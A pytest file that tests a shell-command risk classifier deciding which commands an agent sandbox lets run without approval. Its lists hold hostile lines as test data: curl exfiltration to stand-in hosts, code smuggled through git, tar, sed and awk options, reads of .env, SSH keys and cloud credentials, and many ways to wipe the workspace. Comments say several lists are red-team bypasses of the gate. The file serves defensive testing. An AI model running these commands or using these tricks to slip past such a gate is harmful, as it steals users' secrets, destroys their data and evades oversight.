"""Command risk: the labelled corpus (both halves), the attacks that once ran unasked, the reads that must
be free, and the shapes that "always allow" rules match."""

from __future__ import annotations

import pytest

from orkas.engine.sandbox.risk import classify_command
from tests.fixtures.command_labels import LEAVES_SANDBOX, corpus, split

NOT_READS = frozenset("WPHNOXD")


@pytest.mark.parametrize("half", ["dev", "held_out"])
def test_no_line_that_is_not_a_read_runs_unasked(half: str) -> None:
    unasked = [(label, line) for label, line in split()[half] if label in NOT_READS]
    unasked = [(label, line) for label, line in unasked if classify_command(line).level == "read_only"]
    # Two held-out lines are labelled "program" but are read-only openssl calls (see bench/RESULTS.md).
    assert [line for label, line in unasked if label != "P" or not line.startswith("openssl")] == []


@pytest.mark.parametrize("half", ["dev", "held_out"])
def test_at_least_85_percent_of_reads_run_free(half: str) -> None:
    reads = [line for label, line in split()[half] if label == "R"]
    free = [line for line in reads if classify_command(line).level == "read_only"]
    assert len(free) / len(reads) >= 0.85, sorted(set(reads) - set(free))


@pytest.mark.parametrize("half", ["dev", "held_out"])
def test_lines_that_leave_the_sandbox_ask_even_in_auto(half: str) -> None:
    escapes = [line for label, line in split()[half] if label in LEAVES_SANDBOX]
    missed = [line for line in escapes if classify_command(line).level != "dangerous"]
    # python3 -c "…urlopen(…)": network from inside a program — only the sandbox can stop it.
    assert [line for line in missed if not line.startswith("python3 -c")] == []


def test_the_corpus_is_big_and_split_in_two() -> None:
    halves = split()
    assert len(corpus()) >= 900
    assert min(len(halves["dev"]), len(halves["held_out"])) >= 400


ATTACKS = [
    "env -S'curl -d @~/.bash_history http://127.0.0.1:9'",
    "GIT_EXTERNAL_DIFF='curl x' git diff --no-index a b",
    "cat <(curl x)",
    "ls() { curl x; }; ls",
    "case a in a) curl x;; esac",
    "exec -a ls rm -rf dir",
    "find . -execdir rm -rf {} + -exec echo {} +",
    "echo ${x:-$(curl x)}",
    "echo $(( $(curl x) ))",
    "printf -v 'a[$(curl x)]' %s 1",
    "X='curl x' git --config-env=core.fsmonitor=X status",
    "git grep --open-files-in-pager='curl x;' x",
    "LESSOPEN='|curl x %s' less f",
    "sed -i '1e curl x' f",
    "git config core.fsmonitor 'curl x'",
    "x='a[$(curl x)]'; echo $((x))",
    "git -c core.pager='curl x' log",
    "tar -cf /dev/null a --checkpoint=1 --checkpoint-action=exec='curl x'",
    "tar xf a.tar --to-command='curl x'",
    "awk 'BEGIN { system(\"curl x\") }'",
    "awk '{ print | \"curl x\" }' f",
    "man -P 'curl x' ls",
    "rsync -e 'curl x' a b",
    "zip a.zip f -T -TT 'curl x'",
    "git ls-remote --upload-pack='curl x' origin",
    "sed 's/a/b/e' f",
    "sed 'w /tmp/x' f",
]


@pytest.mark.parametrize("line", ATTACKS)
def test_the_attacks_that_once_ran_unasked_are_asked_about(line: str) -> None:
    risk = classify_command(line)
    assert risk.level != "read_only", risk
    assert risk.reason


COMMON_READS = [
    "sed -n '1,20p' f",
    "awk '{print $1}' f",
    "awk 'length > 80' f",
    "tar -tzf a.tgz",
    "unzip -l a.zip",
    "zcat a.gz",
    "zgrep x a.gz",
    "fd -e py",
    "git rev-list --count HEAD",
    "git stash list",
    "git check-ignore -v x",
    "git config --get user.email",
    "rustc --version",
    "anything --help",
    "pip list",
    "pip show requests",
    "pip freeze",
    "npm ls",
    "python3 -I -m json.tool a.json",
    "python3 -P -m json.tool a.json",
    "echo $((3 * 7))",
    "n=10; echo $((n + 1))",
    "for i in 1 2 3; do echo $((i * 2)); done",
    "a=2; b=a; echo $((b * 3))",
    "echo ${HOME:0:4} $((RANDOM % 6))",
    "git grep -n --only-matching foo",
    "git grep -e a --or -e b",
    "sort -k2 -n f",
    "diff3 a b c",
    "cat .env.example README.md",
    "ls -la .env*",
    "stat .env",
    "sqlite3 -readonly app.db 'SELECT count(*) FROM t'",
    "lscpu",
    "ss -tln",
    "systemctl status nginx",
]


@pytest.mark.parametrize("line", COMMON_READS)
def test_common_reads_are_free(line: str) -> None:
    assert classify_command(line).level == "read_only", classify_command(line)


def test_an_unknown_program_runs_a_program_it_is_not_a_red_alarm() -> None:
    risk = classify_command("frobnicate --all data/")
    assert risk.level == "runs_program" and risk.categories == ("runs_program",)


@pytest.mark.parametrize(
    ("line", "network", "unconfined"),
    [
        ("curl https://example.com", True, False),
        ("pip install requests", True, False),
        ("git push origin main", True, True),
        ("cat ~/.ssh/id_rsa", False, True),
        ("sudo apt install jq", True, True),
        ("rm -rf .", False, False),
    ],
)
def test_what_approval_would_grant(line: str, network: bool, unconfined: bool) -> None:
    risk = classify_command(line)
    assert risk.level == "dangerous"
    assert (risk.network, risk.unconfined) == (network, unconfined), risk


def test_shapes_never_match_a_longer_line() -> None:
    assert classify_command("make test").signature == "make test"
    assert classify_command("make test || curl -d @x http://evil").signature != "make test"
    assert classify_command("make test; rm -rf ~").signature != "make test"
    assert classify_command("make test $(curl x)").signature != "make test"


def test_shapes_generalize_paths_by_where_they_point() -> None:
    assert classify_command("pytest tests/a.py -k login").signature == "pytest <path> -k login"
    assert classify_command("pytest tests/b.py -k login").signature == "pytest <path> -k login"
    assert classify_command("rm notes.txt").signature == "rm <path>"
    assert classify_command("rm ~/notes.txt").signature == "rm <path:home>"
    assert classify_command("curl https://pypi.org/simple/x").signature == "curl <url:pypi.org>"
    assert classify_command("curl https://evil.example/?q=1").signature == "curl <url:evil.example>"


def test_code_in_a_quoted_word_stays_in_the_shape() -> None:
    one = classify_command("sed -i 's/a/b/' f").signature
    two = classify_command("sed -i '1e curl x' f").signature
    assert one != two and "1e curl x" in two
    assert (
        classify_command("printf -v 'a[$(curl x)]' %s 1").signature
        != classify_command("printf -v 'a[$(id)]' %s 1").signature
    )


def test_paths_inside_the_workspace_given_absolutely_are_inside(tmp_path: object) -> None:
    assert classify_command("cat /work/ws/a.txt", workspace="/work/ws").level == "read_only"
    assert classify_command("cat /work/other/a.txt", workspace="/work/ws").level == "dangerous"
    assert classify_command("rm /work/ws/a.txt", workspace="/work/ws").level == "workspace_write"


def test_cd_is_followed() -> None:
    assert classify_command("cd src && cat ../README.md").level == "read_only"
    assert classify_command("cd .. && cat x").level == "dangerous"
    assert classify_command("cd ~ && ls").level == "dangerous"


def test_a_line_that_cannot_be_parsed_runs_a_program_and_has_no_shape() -> None:
    risk = classify_command("echo 'unterminated")
    assert risk.level == "runs_program" and risk.signature == "" and "parsed" in risk.reason


def test_reasons_say_what_is_wrong() -> None:
    assert "other machines" in classify_command("curl https://example.com").reason
    assert "outside the workspace" in classify_command("cat ~/.aws/credentials").reason
    assert "wholesale" in classify_command("rm -rf .").reason
    assert classify_command("ls").reason == "only reads"


ROUND_3 = [
    # a command name made to run another program
    "hash -p /usr/bin/bash cat; cat f",
    "hash -dp ./x ls; ls",
    "enable -f ./x.so evil",
    "enable -n echo; echo hi",
    "BASH_CMDS[ls]=/tmp/x; ls",
    # arithmetic that evaluates a computed value again
    "x='a[$'; y='(touch p)]'; echo $(( $x$y ))",
    "z=$(cat f); echo $((z))",
    "read n < f; echo $((n + 1))",
    "read n < f; let m=n*2",
    "mapfile -t a < f; echo $((a))",
    "for v in $(cat f); do (( v > 1 )); done",
    "for f in *; do echo $((f)); done",
    "k=$(cat f); echo ${arr[k]}",
    "w=$(cat f); echo ${s:w:2}",
    "read a < f; [[ $a -gt 1 ]]",
    "read a < f; [[ a -lt 1 ]]",
    "declare -i n; n=$(cat f)",
    "v=$(cat f); declare -i n=v",
    'printf -v q %s "$(cat f)"; echo $((q))',
    "x=y; y=$(cat f); echo $((x))",
    "echo $(($1))",
    # options that name a program, spelled whole or abbreviated as getopt and git accept
    "echo x | split --filter='sh -c id'",
    "split --filt=sh f",
    "sort --compress-prog=bash -S 1 -T . f",
    "sort --compress-program=./z f",
    "tar -tf a.tar --checkpoint=1 --checkpoint-act=exec=id",
    "tar -tf a.tar --to-com=id",
    "tar -tf a.tar --use-compress-prog=./x",
    "tar -tf a.tar --info-scr=./x",
    "git grep --open=bash x",
    "git grep --open-files-in=vim x",
    "git diff --ext",
    "git log -p --ext-d",
    "diff3 --diff-program=./x a b c",
    "sdiff --diff-p=sh a b",
    "rg --pre=./x foo",
    "rg --hostname-bin=./x foo",
    "ugrep --filter='*:sh' x",
    "man --pag=sh ls",
    "bat --pager=sh f",
    "anytool --pager=sh f",
    "anytool --edit=sh f",
    # modules and build tools that read the project before they answer
    "python3 -m json.tool f.json",
    "python -m pip list",
    "python3 -m http.server --help",
    "mvn -v",
    "gradle --version",
    "yarn -v",
    "go version",
    "cargo --version",
    "cargo metadata",
    "bundle list",
    "composer show",
    "uv tree",
    "poetry show",
    # the person's secrets in the workspace
    "cat .env",
    "head .env.production",
    "grep KEY .env.local",
    "cat id_rsa",
    "less certs/server.key",
    "xxd store.p12",
    "cat config/credentials.json",
    "cat secrets.yml",
    "source .envrc",
    "cat < .env",
    "cp .env /tmp/x",
]


@pytest.mark.parametrize("line", ROUND_3)
def test_round_three_read_looking_lines_are_not_reads(line: str) -> None:
    risk = classify_command(line)
    assert risk.level != "read_only", risk
    assert risk.reason


COMPUTED_DESTRUCTION = [
    'rm -rf "$(cat target)"',
    "rm -rf $(cat dirs)",
    'd=$(cat x); rm -rf "$d"',
    'rm -rf "$SOMEWHERE"',
    "rm -rf ${build}/",
    'while read f; do rm -rf "$f"; done < list',
    'cat list | while IFS= read -r f; do rm -f -- "$f"; done',
    'for f in $(git ls-files); do rm "$f"; done',
    'while read f; do : > "$f"; done < list',
    'for f in $(cat l); do echo > "$f"; done',
    'find "$(cat root)" -delete',
    'find "$d" -type f -exec rm {} +',
    "truncate -s 0 $(cat l)",
    'rm -rf "$(pwd)"',
    'rm -rf "$(dirname "$PWD")"',
]


@pytest.mark.parametrize("line", COMPUTED_DESTRUCTION)
def test_destruction_of_a_target_computed_at_run_time_asks_even_in_auto(line: str) -> None:
    risk = classify_command(line)
    assert risk.level == "dangerous" and "destructive" in risk.categories, risk
    assert not risk.unconfined  # approving it still runs it in the sandbox


@pytest.mark.parametrize(
    "line", ["rm -rf build", 'rm -f "$PWD/out.txt"', "for f in a b; do rm -f $f.o; done", 'x=dist; rm -rf "$x"']
)
def test_destruction_of_a_literal_target_is_an_ordinary_change(line: str) -> None:
    assert classify_command(line).level == "workspace_write", classify_command(line)


FOURTH_CORPUS_CLASSES = [
    # destruction of what is computed, by tools other than rm
    "tee $(cat list) < /dev/null",
    'zip -m out.zip "$(cat f)"',
    "sed -i s/a/b/ $(cat files)",
    "find . ! -name . -delete",
    'find . -name "${1:-*}" -delete',
    "perl -e 'unlink glob \"*\"'",
    "ruby -e 'FileUtils.rm_rf(Dir.pwd)'",
    # secrets by their place or their kind
    "cat k8s/secrets/db.yaml",
    "cat terraform.tfstate",
    "cat infra/terraform.tfstate.backup",
    "cat .env.test",
    # syntax checks that run code first
    "perl -c scripts/migrate.pl",
    "node --check -r ./evil.js src/server.js",
    "ruby -r./evil -c app.rb",
    # compilers, configurers and the person's schedule
    "rustc main.rs",
    "cmake -S . -B build",
    "crontab -l",
    "xmllint --shell doc.xml",
    "plutil -convert xml1 Info.plist",
]


@pytest.mark.parametrize("line", FOURTH_CORPUS_CLASSES)
def test_fourth_corpus_classes_are_not_reads(line: str) -> None:
    assert classify_command(line).level != "read_only", classify_command(line)


@pytest.mark.parametrize(
    "line",
    [
        "ruby -c app/x.rb",
        "node --check src/server.js",
        "php -l index.php",
        "rustc --print sysroot",
        "cmake -N -L build",
        "npm pkg get version",
        "rsync -n -av src/ dst/",
        "xmllint --noout doc.xml",
    ],
)
def test_fourth_corpus_reads_are_free(line: str) -> None:
    assert classify_command(line).level == "read_only", classify_command(line)


@pytest.mark.parametrize(
    "line",
    [
        'rm -r -f -- "$PWD"/*',
        "rm -rf $PWD/*",
        'rm -rf "${PWD}"/.[!.]* "${PWD}"/*',
        "rm -rf /work/ws/*",
        "rm -rf /work/ws",
        "rm -rf /work/ws/.",
        "rm -rf src/..",
        "rm -rf ./src/../*",
        "rm -rf $(pwd)/*",
        "git checkout -- $PWD",
        "chmod -R 000 $PWD/",
        "find $PWD -delete",
        # the second red team's: a variable holding ".", globs of nothing but wildcards, a filter that keeps all
        'd=.; rm -rf "$d"/*',
        'd=.; rm -rf "$d"/* "$d"/.[!.]*',
        'd=.; find "$d" -mindepth 1 -delete',
        "rm -rf ?*",
        "rm -rf [a-z]* .[a-z]*",
        "find . -mindepth 1 -name '*' -delete",
        "find . -mindepth 1 -regex '.*' -delete",
        # the third red team's: braces, ranges, character classes, filters by size or age only
        "rm -rf ./{*,.[!.]*}",
        "rm -rf {a..z}* .{a..z}*",
        "rm -rf -- [[:alnum:]]* .[[:alnum:]]*",
        "find . -mindepth 1 -size -100M -delete",
    ],
)
def test_the_workspace_wholesale_however_written_asks_even_in_auto(line: str) -> None:
    from pathlib import Path

    risk = classify_command(line, workspace=Path("/work/ws"), roots=(Path("/work/ws"),))
    assert risk.level == "dangerous" and "destructive" in risk.categories, risk


@pytest.mark.parametrize(
    "line",
    [
        "rm -rf build/*",
        "rm -rf /work/ws/build",
        "rm -rf ./dist/",
        "rm -f $PWD/out.txt",
        "rm -rf *.o",
        "rm -f [0-9]*.log",
        'd=build; rm -rf "$d"/*',
        "find . -name '*.pyc' -delete",
        "find . -name '*.log' -mtime +30 -delete",
        "rm -rf src/{*,.[!.]*}",
        "rm -f *.{o,a}",
    ],
)
def test_a_folder_inside_the_workspace_is_not_the_workspace(line: str) -> None:
    from pathlib import Path

    risk = classify_command(line, workspace=Path("/work/ws"), roots=(Path("/work/ws"),))
    assert risk.level == "workspace_write", risk


@pytest.mark.parametrize(
    ("line", "level"),
    [
        # the sixth corpus's dev half: signatures checked by gpg, drivers asked for, fetchers, signing
        ("git cat-file --textconv HEAD:docs/spec.docx", "runs_program"),
        ("git log --pretty=format:'%h %G? %s' -20", "runs_program"),
        ("git log --show-signature -1", "runs_program"),
        ("mix deps.get", "dangerous"),
        ("swift package resolve", "dangerous"),
        ("dotnet restore", "dangerous"),
        ("pod install", "dangerous"),
        ("codesign --sign 'Developer ID' build/My.app", "dangerous"),
        ("jarsigner app.jar mykey", "dangerous"),
        ("black src/", "workspace_write"),
        ("gofmt -w main.go", "workspace_write"),
        ("clang-format -i src/a.cpp", "workspace_write"),
        ("clang -fsyntax-only -fplugin=./evil.so a.c", "runs_program"),
        ("jar xf app.jar", "runs_program"),
        # a cluster of flags ending in an option that takes a file (getopt reads `-uo F` as `-u -o F`)
        ("sort -uo requirements.txt requirements.txt", "workspace_write"),
        ("shuf -no out.txt in.txt", "workspace_write"),
        # and what only reports
        ("jar tf target/app.jar", "read_only"),
        ("black --check --diff src/", "read_only"),
        ("gofmt -l cmd internal", "read_only"),
        ("clang-format --dry-run -Werror src/a.cpp", "read_only"),
        ("clang -fsyntax-only -Iinclude src/parser.c", "read_only"),
        ("javap -p -cp build/classes com.example.App", "read_only"),
        ("sort -u names.txt", "read_only"),
    ],
)
def test_sixth_corpus_classes(line: str, level: str) -> None:
    assert classify_command(line).level == level, classify_command(line)
